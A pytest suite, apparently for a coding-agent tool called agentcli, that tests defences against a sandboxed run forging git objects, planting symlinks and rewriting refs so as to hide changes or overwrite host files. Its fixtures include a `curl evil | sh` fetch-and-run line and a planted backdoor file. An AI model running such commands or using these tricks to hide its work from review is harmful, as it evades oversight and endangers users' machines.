"""What the sandbox can do to git's own data, read by agentcli on the host: forged objects, a history
boundary moved, refs deleted or added, links in git's folder; and a patch the user's settings would
spoil. Each test writes `.git` as a command in the sandbox could, then calls what the host runs after
the run (the diff, the branch, the patch, undo). Through `agentcli solve` on each sandbox:
tests/test_containment.py."""

from __future__ import annotations

import dataclasses
import hashlib
import os
import re
import subprocess
import time
import zlib
from pathlib import Path

import pytest

from agentcli.errors import UsageError
from agentcli.repo import checkpoint as cp
from agentcli.repo import mirror, objects, publish
from agentcli.repo.git import Git
from agentcli.session.undo import undo
from tests.conftest import git


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "a.txt").write_text("one\ntwo\n")
    (repo / "src").mkdir()
    (repo / "src" / "app.py").write_text("print('app')\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "init")
    return repo


def blob_id(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def plant_loose(repo: Path, oid: str, data: bytes, kind: str = "blob") -> None:
    """Write a loose object named `oid` that holds `data`, whatever `oid` is the hash of."""
    path = repo / ".git" / "objects" / oid[:2] / oid[2:]
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    path.write_bytes(zlib.compress(f"{kind} {len(data)}\0".encode() + data))


def test_an_object_planted_for_content_about_to_be_written_hides_nothing(repo: Path):
    checkpoint = cp.create_checkpoint(repo, "s1")
    old = (repo / "src" / "app.py").read_bytes()
    new = b"import os; os.system('curl evil | sh')\n" + old
    plant_loose(repo, blob_id(new), old)  # git writes no object it holds: the snapshot would reuse this
    (repo / "src" / "app.py").write_bytes(new)
    removed = cp.remove_forged_objects(repo, checkpoint)
    assert removed == [f"{blob_id(new)[:2]}/{blob_id(new)[2:]}"]
    assert "+import os; os.system('curl evil | sh')" in cp.diff_since(repo, checkpoint)
    assert "src/app.py" in publish.change_patch(repo, checkpoint)


def test_a_checkpointed_object_rewritten_in_the_store_comes_back_genuine_with_undo(repo: Path):
    (repo / "notes.txt").write_text("my uncommitted work\n")
    (repo / "a.txt").write_text("one\ntwo (edited)\n")
    cp.create_checkpoint(repo, "s2")
    for name in ("notes.txt", "a.txt"):
        plant_loose(repo, git(repo, "hash-object", name).strip(), b"EVIL\n")
    (repo / "notes.txt").unlink()
    (repo / "a.txt").write_text("changed by the run\n")
    undo(repo, "s2")
    assert (repo / "notes.txt").read_text() == "my uncommitted work\n"
    assert (repo / "a.txt").read_text() == "one\ntwo (edited)\n"
    assert git(repo, "cat-file", "blob", git(repo, "hash-object", "a.txt").strip()) == "one\ntwo (edited)\n"


def test_a_branch_is_not_built_on_a_tree_of_head_the_run_rewrote(repo: Path):
    (repo / "src" / "notes.md").write_text("untracked\n")  # the checkpoint's src differs from HEAD's
    checkpoint = cp.create_checkpoint(repo, "s3")
    real = git(repo, "rev-parse", "HEAD:src").strip()
    backdoor = git(repo, "hash-object", "-w", "--stdin", input_text="steal()\n").strip()
    listing = git(repo, "ls-tree", "HEAD:src") + f"100644 blob {backdoor}\tbackdoor.py\n"
    fake = git(repo, "mktree", input_text=listing).strip()
    raw = zlib.decompress((repo / ".git" / "objects" / fake[:2] / fake[2:]).read_bytes())
    plant_loose(repo, real, raw.split(b"\0", 1)[1], kind="tree")
    (repo / "src" / "app.py").write_text("print('app v2')\n")
    cp.remove_forged_objects(repo, checkpoint)
    commit = publish.commit_change(repo, checkpoint, "fix", "msg")
    assert git(repo, "diff-tree", "-r", "--name-only", checkpoint.head or "", commit).split() == ["src/app.py"]


def test_a_pack_the_run_forged_goes_and_a_sound_one_stays(repo: Path):
    checkpoint = cp.create_checkpoint(repo, "s4")
    (repo / "b.txt").write_text("the run's own file\n")
    git(repo, "add", "b.txt")
    git(repo, "commit", "-qm", "run")
    git(repo, "repack", "-q", "-a", "-d", "--write-bitmap-index")
    git(repo, "commit-graph", "write", "--reachable")
    packs = repo / ".git" / "objects" / "pack"
    sound = sorted(p.name for p in packs.iterdir())
    described = {f"pack/{name}" for name in sound if name.endswith((".bitmap", ".rev"))}
    assert len(described) == 2  # what describes a pack goes, what holds objects stays (it passed the check)
    assert set(cp.remove_forged_objects(repo, checkpoint)) == {"info/commit-graph", "info/packs", *described}
    assert git(repo, "cat-file", "-p", "HEAD:b.txt") == "the run's own file\n"  # the sound pack stayed
    pack = next(packs.glob("*.pack"))
    data = bytearray(pack.read_bytes())
    data[len(data) // 2] ^= 0xFF
    pack.chmod(0o644)
    pack.write_bytes(bytes(data))
    removed = cp.remove_forged_objects(repo, checkpoint)
    assert f"pack/{pack.name}" in removed and not list(packs.glob("*.pack"))
    undo(repo, "s4")  # the checkpoint's objects come back from agentcli's own copy
    assert git(repo, "status", "--porcelain") == "" and (repo / "a.txt").read_text() == "one\ntwo\n"


def test_only_what_changed_after_the_checkpoint_is_checked(repo: Path):
    git(repo, "gc", "-q")
    plant_loose(repo, "ab" * 20, b"not what its name says\n")
    before = sorted((repo / ".git" / "objects").rglob("*"))
    assert objects.remove_forged(Git(repo), time.time() + 5) == []
    assert sorted((repo / ".git" / "objects").rglob("*")) == before
    removed = objects.remove_forged(Git(repo), 0)  # from the epoch: everything is checked
    assert "ab/" + "ab" * 19 in removed and not [p for p in removed if p.endswith((".pack", ".idx"))]


def test_a_history_boundary_the_run_planted_does_not_stop_undo(repo: Path):
    (repo / "staged.txt").write_text("staged\n")
    git(repo, "add", "staged.txt")
    (repo / "staged.txt").write_text("staged, then edited\n")
    checkpoint = cp.create_checkpoint(repo, "s6")
    git(repo, "rm", "-qf", "--cached", "staged.txt")
    oid = checkpoint.index_tree or ""
    (repo / ".git" / "objects" / oid[:2] / oid[2:]).unlink()
    (repo / ".git" / "shallow").write_text(checkpoint.commit + "\n")
    undo(repo, "s6")
    assert git(repo, "ls-files").split() == ["a.txt", "src/app.py", "staged.txt"]
    assert not (repo / ".git" / "shallow").exists()


def test_undo_brings_back_refs_the_run_deleted_moved_or_added(repo: Path):
    git(repo, "checkout", "-qb", "feature")
    (repo / "f.txt").write_text("unpushed work\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "feature work")
    feature = git(repo, "rev-parse", "feature").strip()
    git(repo, "checkout", "-q", "main")
    git(repo, "tag", "v1")
    cp.create_checkpoint(repo, "s7")
    git(repo, "branch", "-qD", "feature")
    git(repo, "tag", "-f", "v1", git(repo, "commit-tree", "HEAD^{tree}", "-m", "evil").strip())
    evil = git(repo, "hash-object", "-w", "--stdin", input_text="evil()\n").strip()
    git(repo, "replace", git(repo, "rev-parse", "HEAD:a.txt").strip(), evil)
    git(repo, "reflog", "expire", "--expire=now", "--all")
    git(repo, "gc", "-q", "--prune=now")
    undo(repo, "s7")
    assert git(repo, "rev-parse", "feature").strip() == feature
    assert git(repo, "rev-parse", "v1^{commit}") == git(repo, "rev-parse", "HEAD")
    assert git(repo, "for-each-ref", "refs/replace") == ""
    assert git(repo, "show", "HEAD:a.txt") == "one\ntwo\n"  # the user's git, which honours replace refs
    kept = git(repo, "for-each-ref", "--format=%(refname)", "refs/agentcli/before-undo")
    assert any(re.fullmatch(r"refs/agentcli/before-undo/undo-s7-\w+/tags/v1", ref) for ref in kept.split())


def test_a_detached_head_comes_back_detached(repo: Path):
    git(repo, "checkout", "-q", "--detach")
    cp.create_checkpoint(repo, "s8")
    git(repo, "checkout", "-q", "main")
    undo(repo, "s8")
    assert subprocess.run(["git", "symbolic-ref", "-q", "HEAD"], cwd=repo).returncode == 1


def test_links_the_run_planted_in_git_folder_go_before_git_writes_through_them(repo: Path, tmp_path: Path):
    victim = tmp_path / "victim"
    victim.write_text("a host file\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    checkpoint = cp.create_checkpoint(repo, "s9")
    logs = repo / ".git" / "logs" / "refs"
    (logs / "heads" / "fix").symlink_to(victim)
    (logs / "agentcli" / "before-undo").mkdir(parents=True)
    (logs / "agentcli" / "before-undo" / "s9").symlink_to(victim)
    store = repo / ".git" / "objects"
    free = next(f"{i:02x}" for i in range(256) if not (store / f"{i:02x}").exists())
    (store / free).symlink_to(outside, target_is_directory=True)  # where git would write new objects
    (repo / "a.txt").write_text("changed\n")
    assert cp.remove_planted(repo, checkpoint) == [
        ".git/logs/refs/agentcli/before-undo/s9",
        ".git/logs/refs/heads/fix",
        f".git/objects/{free}",
    ]
    publish.commit_change(repo, checkpoint, "fix", "msg")  # what the end of a run does after removing them
    (logs / "agentcli" / "before-undo" / "s9").symlink_to(victim)  # as a run killed before its end leaves it
    undo(repo, "s9")
    assert victim.read_text() == "a host file\n" and not list(outside.iterdir())


def test_the_patch_is_the_same_whatever_the_users_diff_settings(repo: Path, tmp_path: Path, monkeypatch):
    config = tmp_path / "gitconfig"
    config.write_text("[diff]\n\tnoprefix = true\n\tmnemonicPrefix = true\n[color]\n\tdiff = always\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    checkpoint = cp.create_checkpoint(repo, "s10")
    (repo / "a.txt").write_text("one\ntwo\nthree\n")
    patch = publish.change_patch(repo, checkpoint)
    assert patch.startswith("diff --git a/a.txt b/a.txt\n") and "\x1b[" not in patch
    commit = publish.commit_change(repo, checkpoint, "fix", "msg")
    assert git(repo, "show", f"{commit}:a.txt") == "one\ntwo\nthree\n"


def test_a_nested_repository_moved_to_another_commit_is_in_the_patch_and_the_branch(repo: Path, tmp_path: Path):
    lib = tmp_path / "lib"
    lib.mkdir()
    (lib / "x.txt").write_text("x\n")
    git(lib, "init", "-q")
    git(lib, "add", ".")
    git(lib, "commit", "-qm", "lib")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "lib")
    git(repo, "commit", "-qm", "add lib")
    checkpoint = cp.create_checkpoint(repo, "s11")
    (repo / "lib" / "x.txt").write_text("y\n")
    git(repo / "lib", "commit", "-qam", "bump")
    bumped = git(repo / "lib", "rev-parse", "HEAD").strip()
    assert f"+Subproject commit {bumped}" in publish.change_patch(repo, checkpoint)
    commit = publish.commit_change(repo, checkpoint, "fix", "msg")
    assert git(repo, "rev-parse", f"{commit}:lib").strip() == bumped


def test_a_patch_of_text_that_is_not_utf8_is_written_byte_for_byte(repo: Path, tmp_path: Path):
    checkpoint = cp.create_checkpoint(repo, "s12")
    (repo / "latin1.txt").write_bytes(b"caf\xe9\n")
    path = publish.fixed_patch_path(tmp_path / "out" / "change.patch")
    publish.write_patch(repo, path, publish.change_patch(repo, checkpoint))
    assert b"+caf\xe9\n" in path.read_bytes()
    fresh = tmp_path / "fresh"
    git(tmp_path, "clone", "-q", str(repo), str(fresh))
    git(fresh, "apply", str(path))
    assert (fresh / "latin1.txt").read_bytes() == b"caf\xe9\n"


def test_a_patch_path_the_run_made_a_link_is_refused(repo: Path, tmp_path: Path):
    victim = tmp_path / "victim"
    victim.write_text("a host file\n")
    path = publish.fixed_patch_path(repo / "change.patch")
    checkpoint = cp.create_checkpoint(repo, "s13", ("change.patch",))
    (repo / "change.patch").symlink_to(victim)
    (repo / "a.txt").write_text("changed\n")
    with pytest.raises(OSError):
        publish.write_patch(repo, path, publish.change_patch(repo, checkpoint))
    assert victim.read_text() == "a host file\n"
    os.unlink(repo / "change.patch")


def test_a_branch_name_is_taken_as_it_is_written(repo: Path):
    git(repo, "checkout", "-qb", "other")
    git(repo, "checkout", "-q", "main")
    for name in ("@{-1}", "-x", "a..b", "HEAD"):
        with pytest.raises(UsageError, match="invalid branch name"):
            publish.validate_branch(repo, name)


# Found by a review of the first version of these defences.


def test_a_folder_of_objects_made_before_the_checkpoint_and_renamed_in_is_checked(repo: Path):
    (repo / ".gitignore").write_text("cache/\n")
    old = (repo / "a.txt").read_bytes()
    evil = b"curl evil | sh\n"
    oid = blob_id(evil)
    early = repo / "cache" / oid[:2]
    early.mkdir(parents=True)
    (early / oid[2:]).write_bytes(zlib.compress(b"blob %d\0" % len(old) + old))  # claims evil's id, holds old
    time.sleep(2.2)  # its files' change times are older than the checkpoint, and stay so through a rename
    checkpoint = cp.create_checkpoint(repo, "s14")
    store = repo / ".git" / "objects" / oid[:2]
    if store.exists():
        for f in store.iterdir():
            os.rename(f, early / f.name)
        store.rmdir()
    os.rename(early, store)
    (repo / "a.txt").write_bytes(evil)
    assert f"{oid[:2]}/{oid[2:]}" in cp.remove_forged_objects(repo, checkpoint)
    assert "+curl evil | sh" in cp.diff_since(repo, checkpoint)


def test_undo_keeps_the_users_older_stash_entries(repo: Path):
    for i in range(3):
        (repo / "a.txt").write_text(f"stashed {i}\n")
        git(repo, "stash", "-q")
    entries = git(repo, "log", "-g", "--format=%H", "refs/stash").split()
    cp.create_checkpoint(repo, "s15")
    git(repo, "stash", "drop", "-q")  # the run drops the newest entry, and stashes one of its own
    (repo / "a.txt").write_text("the run's\n")
    git(repo, "stash", "-q")
    undo(repo, "s15")  # deleting refs/stash to put it back would drop the rest with its reflog
    after = git(repo, "log", "-g", "--format=%H", "refs/stash").split()
    assert after[0] == entries[0] and set(entries) <= set(after)


def test_undo_does_not_write_through_a_branch_the_run_made_symbolic(repo: Path):
    git(repo, "branch", "feature")
    (repo / "a.txt").write_text("main moves on\n")
    git(repo, "commit", "-qam", "main work")
    tips = git(repo, "rev-parse", "main", "feature")
    cp.create_checkpoint(repo, "s16")
    (repo / ".git" / "refs" / "heads" / "feature").write_text("ref: refs/heads/main\n")
    undo(repo, "s16")
    assert git(repo, "rev-parse", "main", "feature") == tips
    assert subprocess.run(["git", "symbolic-ref", "-q", "refs/heads/feature"], cwd=repo).returncode == 1


def test_a_ref_to_a_missing_object_does_not_stop_undo(repo: Path):
    (repo / "a.txt").write_text("staged by the user\n")
    git(repo, "add", "a.txt")
    cp.create_checkpoint(repo, "s17")
    git(repo, "reset", "-q")
    (repo / ".git" / "refs" / "tags" / "junk").write_text("1" * 40 + "\n")
    undo(repo, "s17")
    assert git(repo, "diff", "--cached", "--name-only").split() == ["a.txt"]


def test_a_checkpoint_restored_twice_keeps_what_each_restore_replaced(repo: Path):
    checkpoint = cp.create_checkpoint(repo, "s18")
    git(repo, "branch", "fix")
    cp.restore(repo, checkpoint)  # as the first attempt is taken back
    git(repo, "branch", "fix/typo")
    cp.restore(repo, checkpoint)  # and the second
    kept = git(repo, "for-each-ref", "--format=%(refname)", "refs/agentcli/before-undo").split()
    assert sum(ref.endswith("/heads/fix") for ref in kept) == 1 and sum(r.endswith("/fix/typo") for r in kept) == 1


def test_a_checkpoint_that_recorded_no_links_leaves_the_users_links_in_git_folder(repo: Path):
    (repo / "tools").mkdir()
    (repo / "tools" / "pre-commit").write_text("#!/bin/sh\n")
    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../tools/pre-commit")
    older = dataclasses.replace(cp.create_checkpoint(repo, "s19"), plantable=(), made_at=None)
    (repo / ".git" / "commondir").write_text("../elsewhere\n")
    assert cp.remove_planted(repo, older) == [".git/commondir"]
    assert (repo / ".git" / "hooks" / "pre-commit").is_symlink()


def test_a_pack_that_fails_the_check_is_moved_aside_and_undo_mends_the_branches(repo: Path):
    git(repo, "branch", "feature")
    checkpoint = cp.create_checkpoint(repo, "s20")
    git(repo, "gc", "-q")  # the run packs everything, the user's branches' objects with it
    pack = next((repo / ".git" / "objects" / "pack").glob("*.pack"))
    data = bytearray(pack.read_bytes())
    data[-30] ^= 0xFF  # or its check timed out: the pack is put aside, not deleted
    pack.chmod(0o644)
    pack.write_bytes(bytes(data))
    assert f"pack/{pack.name}" in cp.remove_forged_objects(repo, checkpoint)
    assert (repo / ".git" / objects.QUARANTINE / pack.name).is_file()
    undo(repo, "s20")
    assert git(repo, "log", "--format=%s", "feature").split() == ["init"]


def test_a_history_boundary_the_run_removed_or_added_is_as_it_was_after_undo(repo: Path, tmp_path: Path):
    for i in range(3):
        (repo / "a.txt").write_text(f"{i}\n")
        git(repo, "commit", "-qam", f"c{i}")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(clone))
    boundary = (clone / ".git" / "shallow").read_text()
    cp.create_checkpoint(clone, "s21")
    (clone / ".git" / "shallow").unlink()  # git would look for history the clone never had
    undo(clone, "s21")
    assert (clone / ".git" / "shallow").read_text() == boundary
    git(clone, "fetch", "-q", "--unshallow")
    cp.create_checkpoint(clone, "s22")
    (clone / ".git" / "shallow").write_text("")  # an old boundary must not come back in its place
    undo(clone, "s22")
    assert not (clone / ".git" / "shallow").exists()
    assert len(git(clone, "log", "--format=%h").split()) == 4


def test_a_file_where_git_writes_loose_objects_does_not_stop_undo(repo: Path):
    checkpoint = cp.create_checkpoint(repo, "s23")
    (repo / "a.txt").write_text("changed\n")
    store = repo / ".git" / "objects"
    free = next(f"{i:02x}" for i in range(256) if not (store / f"{i:02x}").exists())
    (store / free).write_text("not a folder\n")
    cp.remove_forged_objects(repo, checkpoint)
    undo(repo, "s23")
    assert (repo / "a.txt").read_text() == "one\ntwo\n" and not (store / free).is_file()


# Found by a review of the second version.


def test_a_remote_head_stays_symbolic_and_a_branch_made_symbolic_goes_plain(repo: Path, tmp_path: Path):
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(repo), str(clone))
    refs = git(clone, "for-each-ref", "--format=%(refname) %(objectname) %(symref)")
    cp.create_checkpoint(clone, "s24")
    (repo / "a.txt").write_text("upstream moved\n")
    git(repo, "commit", "-qam", "upstream")
    git(clone, "fetch", "-q")  # the run: origin/HEAD now names another commit, through origin/main
    git(clone, "symbolic-ref", "refs/heads/main", "refs/remotes/origin/main")  # the user's commits would go there
    undo(clone, "s24")
    assert git(clone, "symbolic-ref", "refs/remotes/origin/HEAD").strip() == "refs/remotes/origin/main"
    assert subprocess.run(["git", "symbolic-ref", "-q", "refs/heads/main"], cwd=clone).returncode == 1
    now = git(clone, "for-each-ref", "--format=%(refname) %(objectname) %(symref)").splitlines(keepends=True)
    assert "".join(line for line in now if not line.startswith("refs/agentcli/")) == refs


def test_a_pack_only_the_checkpoint_freshened_is_not_checked_again(repo: Path, monkeypatch):
    git(repo, "gc", "-q")
    time.sleep(1.1)
    checkpoint = cp.create_checkpoint(repo, "s25")  # writes objects the pack holds: git touches the pack
    checked = []
    monkeypatch.setattr(Git, "try_", lambda self, *a, **k: checked.append(a) or "")
    assert cp.remove_forged_objects(repo, checkpoint) == []
    assert not [a for a in checked if a[:1] == ("verify-pack",)]


def test_a_multi_pack_index_written_since_goes_and_is_never_read(repo: Path):
    checkpoint = cp.create_checkpoint(repo, "s26")
    chain = repo / ".git" / "objects" / "pack" / "multi-pack-index.d"
    chain.mkdir(parents=True)
    (chain / "multi-pack-index-chain").write_text("0" * 40 + "\n")
    assert "pack/multi-pack-index.d" in cp.remove_forged_objects(repo, checkpoint)
    assert Git(repo)("config", "core.multiPackIndex") == "false"


# A state set aside during a run (an attempt's, to come back if no later attempt does better).


def test_a_state_set_aside_takes_no_history_boundary_from_the_run(repo: Path):
    """A boundary in the mirror would stop every later restore's walk of the history there."""
    mark = cp.create_checkpoint(repo, "s1")
    for step in ("fix", "fix again"):  # two commits: a boundary at the second hides the first from a push
        (repo / "b.txt").write_text(f"{step}\n")
        git(repo, "add", "b.txt")
        git(repo, "commit", "-qm", step)
    (repo / ".git" / "shallow").write_text(git(repo, "rev-parse", "HEAD"))  # history "ends" at the run's commit
    state = cp.set_aside(repo, "s1-attempt-1", mark)
    assert state is not None  # the push reads no boundary: the state goes whole
    assert not (mirror.location(repo) / "shallow").exists()
    # So does every later checkpoint.
    (repo / "c.txt").write_text("more\n")
    later = cp.create_checkpoint(repo, "s2")
    assert not (mirror.location(repo) / "shallow").exists()
    assert mirror.repository(repo)("rev-parse", f"{cp.CHECKPOINT_REFS}/s2") == later.commit


def test_a_repository_made_shallow_after_its_first_checkpoint_is_still_checkpointed(repo: Path, tmp_path: Path):
    upstream = tmp_path / "upstream"
    git(tmp_path, "clone", "-q", "--bare", str(repo), str(upstream))
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", f"file://{upstream}", str(clone))
    cp.create_checkpoint(clone, "s1")  # agentcli first meets it whole
    for step in ("moved on", "and on"):  # the first of them never reaches the clone
        (repo / "a.txt").write_text(f"{step}\n")
        git(repo, "commit", "-qam", step)
    git(repo, "push", "-q", str(upstream), "HEAD:main")
    git(clone, "fetch", "-q", "--depth=1", "origin")
    git(clone, "reset", "-q", "--hard", "origin/main")  # the user makes it shallow
    (clone / "a.txt").write_text("user's work\n")
    later = cp.create_checkpoint(clone, "s2")
    assert mirror.repository(clone)("rev-parse", f"{mirror.CHECKPOINT_REFS}/s2") == later.commit


def test_a_state_of_a_shallow_clone_is_set_aside(repo: Path, tmp_path: Path):
    (repo / "a.txt").write_text("three\n")
    git(repo, "commit", "-qam", "second")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(clone))
    mark = cp.create_checkpoint(clone, "s1")
    (clone / "a.txt").write_text("fixed\n")
    git(clone, "commit", "-qam", "fix")
    kept = cp.set_aside(clone, "s1-attempt-1", mark)
    assert kept is not None
    cp.restore(clone, mark)
    cp.restore(clone, kept)
    assert (clone / "a.txt").read_text() == "fixed\n"


def test_restoring_a_state_set_aside_writes_through_no_link_the_run_planted(repo: Path, tmp_path: Path):
    victim = tmp_path / "victim"
    victim.write_text("host file\n")
    mark = cp.create_checkpoint(repo, "s1")
    link = repo / ".git" / "logs" / "refs" / "heads" / "main"

    def plant() -> None:
        link.unlink(missing_ok=True)
        link.symlink_to(victim)

    (repo / "a.txt").write_text("fixed\n")
    plant()  # attempt 1
    kept = cp.set_aside(repo, "s1-attempt-1", mark)
    assert kept is not None
    cp.restore(repo, mark)
    plant()  # attempt 2, again, and a commit
    (repo / "b.txt").write_text("x\n")
    git(repo, "add", "b.txt")
    git(repo, "commit", "-qm", "two")
    written = victim.read_text()  # the run's own git wrote through its link: the sandbox's to write
    cp.restore(repo, kept)
    assert victim.read_text() == written
    assert (repo / "a.txt").read_text() == "fixed\n"


def test_a_fifo_at_an_object_of_the_state_set_aside_blocks_nothing(repo: Path):
    mark = cp.create_checkpoint(repo, "s1")
    fixed = b"fixed\n"
    oid = blob_id(fixed)
    (repo / ".git" / "objects" / oid[:2]).mkdir(exist_ok=True)
    os.mkfifo(repo / ".git" / "objects" / oid[:2] / oid[2:])  # git would block opening it
    (repo / "a.txt").write_bytes(fixed)
    started = time.monotonic()
    kept = cp.set_aside(repo, "s1-attempt-1", mark)
    assert kept is not None and time.monotonic() - started < 30
    cp.restore(repo, mark)
    cp.restore(repo, kept)
    assert (repo / "a.txt").read_bytes() == fixed


@pytest.mark.parametrize("kind", ["checkpoint", "state set aside"])
def test_a_ref_named_after_the_commit_id_does_not_decide_what_the_mirror_keeps(repo: Path, monkeypatch, kind: str):
    """git's push reads a bare id as a ref name first; a process left running in the sandbox can make
    `refs/tags/<id>` the moment the id exists (simulated here by planting it just before the push)."""
    mark = cp.create_checkpoint(repo, "s1")
    decoy = git(repo, "commit-tree", git(repo, "rev-parse", "HEAD^{tree}").strip(), "-m", "decoy").strip()
    push = mirror.keep if kind == "checkpoint" else mirror.set_aside

    def raced(g, name, *rest):
        git(repo, "update-ref", f"refs/tags/{rest[-1]}", decoy)
        return push(g, name, *rest)

    monkeypatch.setattr(mirror, push.__name__, raced)
    (repo / "a.txt").write_text("fixed\n")
    if kind == "checkpoint":
        kept = cp.create_checkpoint(repo, "s2")
        ref = f"{mirror.CHECKPOINT_REFS}/s2"
    else:
        kept = cp.set_aside(repo, "s1-attempt-1", mark)
        ref = f"{mirror.ASIDE_REFS}/s1-attempt-1"
    assert kept is not None
    assert mirror.repository(repo)("rev-parse", ref) == kept.commit != decoy


def test_a_state_brought_back_keeps_no_replace_ref_or_tag_of_a_later_attempt(repo: Path):
    mark = cp.create_checkpoint(repo, "s1")
    (repo / "a.txt").write_text("attempt 1\n")
    kept = cp.set_aside(repo, "s1-attempt-1", mark)
    assert kept is not None
    cp.restore(repo, mark)
    blob = git(repo, "rev-parse", "HEAD:a.txt").strip()
    evil = git(repo, "hash-object", "-w", "--stdin", input_text="evil\n").strip()
    git(repo, "replace", blob, evil)  # attempt 2: the user's own git would now read "evil"
    git(repo, "tag", "attempt-2")
    cp.restore_aside(repo, kept, mark)
    assert git(repo, "for-each-ref", "--format=%(refname)", "refs/replace", "refs/tags") == ""
    assert git(repo, "show", "HEAD:a.txt") == "one\ntwo\n"
    assert (repo / "a.txt").read_text() == "attempt 1\n"
